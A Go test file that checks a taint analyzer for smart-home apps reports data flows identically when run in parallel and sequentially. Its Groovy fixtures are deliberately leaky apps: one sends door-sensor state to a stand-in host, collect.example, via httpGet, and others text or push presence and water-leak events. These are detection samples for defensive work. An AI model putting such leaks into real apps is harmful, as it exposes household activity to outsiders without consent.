package core

import (
	"context"
	"fmt"
	"strings"
	"testing"
)

// Leaky fixtures for the taint determinism tests, chosen to exercise
// distinct flow shapes (direct, state-hop, helper) and channels so the
// rendered reports have enough structure for ordering bugs to show.
const (
	parTaintSms = `
definition(name: "par-sms", namespace: "t", author: "t")
preferences {
    section("Devices") { input "kids", "capability.presenceSensor" }
}
def installed() { subscribe(kids, "presence.not present", h) }
def h(evt) {
    sendSms("555-0100", "left: ${evt.displayName}")
}
`
	parTaintHop = `
definition(name: "par-hop", namespace: "t", author: "t")
preferences {
    section("Devices") { input "door", "capability.contactSensor" }
}
def installed() { subscribe(door, "contact", h) }
def h(evt) {
    state.last = "door ${evt.value}"
    httpGet("http://collect.example/?d=${state.last}")
}
`
	parTaintHelper = `
definition(name: "par-helper", namespace: "t", author: "t")
preferences {
    section("Devices") { input "leak", "capability.waterSensor" }
}
def installed() { subscribe(leak, "water.wet", h) }
def h(evt) {
    relay("mode ${location.mode}: ${evt.displayName}")
}
def relay(m) {
    sendPush(m)
}
`
	parTaintClean = `
definition(name: "par-clean", namespace: "t", author: "t")
preferences {
    section("Devices") { input "kids", "capability.presenceSensor" }
}
def installed() { subscribe(kids, "presence", h) }
def h(evt) {
    sendSms("555-0100", redact("seen ${evt.displayName}"))
}
`
)

// renderTaint flattens every field of an analysis's taint flows —
// including witness lines — into one string; byte-identical renderings
// mean identical ordered flow reports.
func renderTaint(a *Analysis) string {
	var b strings.Builder
	for _, f := range a.TaintFlows {
		fmt.Fprintf(&b, "%s|%s|%s|%s|%s|%s|%s|%s|%s|%d|%s\n",
			f.ID, f.App, f.Handler, f.Event, f.Source, f.SourceClass,
			f.Via, f.Sink, f.Channel, f.Line, f.Condition)
		for _, w := range f.Witness {
			fmt.Fprintf(&b, "  %s\n", w)
		}
	}
	return b.String()
}

// TestParallelTaintBatchDeterministic pushes the taint family through
// AnalyzeBatch with concurrent workers and diffs each item's rendered
// flow section against a sequential run of the same batch — the
// determinism contract batch fan-out and the sharded daemons rely on.
func TestParallelTaintBatchDeterministic(t *testing.T) {
	items := []BatchItem{
		{Key: "sms", Sources: []NamedSource{{Name: "par-sms", Source: parTaintSms}}},
		{Key: "hop", Sources: []NamedSource{{Name: "par-hop", Source: parTaintHop}}},
		{Key: "helper", Sources: []NamedSource{{Name: "par-helper", Source: parTaintHelper}}},
		{Key: "clean", Sources: []NamedSource{{Name: "par-clean", Source: parTaintClean}}},
		{Key: "sms-again", Sources: []NamedSource{{Name: "par-sms", Source: parTaintSms}}},
	}
	opts := DefaultOptions()
	seq := AnalyzeBatch(context.Background(), BatchOptions{Options: opts, Parallel: 1}, items...)
	par := AnalyzeBatch(context.Background(), BatchOptions{Options: opts, Parallel: 4}, items...)
	if len(seq) != len(items) || len(par) != len(items) {
		t.Fatalf("results = %d/%d, want %d", len(seq), len(par), len(items))
	}
	for i := range items {
		if seq[i].Err != nil || par[i].Err != nil {
			t.Fatalf("%s: seq err %v, par err %v", items[i].Key, seq[i].Err, par[i].Err)
		}
		s, p := renderTaint(seq[i].Analysis), renderTaint(par[i].Analysis)
		if s != p {
			t.Errorf("%s: batch taint flows diverge:\nseq:\n%spar:\n%s", items[i].Key, s, p)
		}
	}
	if renderTaint(seq[0].Analysis) == "" {
		t.Error("sms fixture produced no flows")
	}
	if renderTaint(seq[3].Analysis) != "" {
		t.Errorf("clean fixture produced flows:\n%s", renderTaint(seq[3].Analysis))
	}
	if renderTaint(par[0].Analysis) != renderTaint(par[4].Analysis) {
		t.Error("identical items produced different taint sections")
	}
}
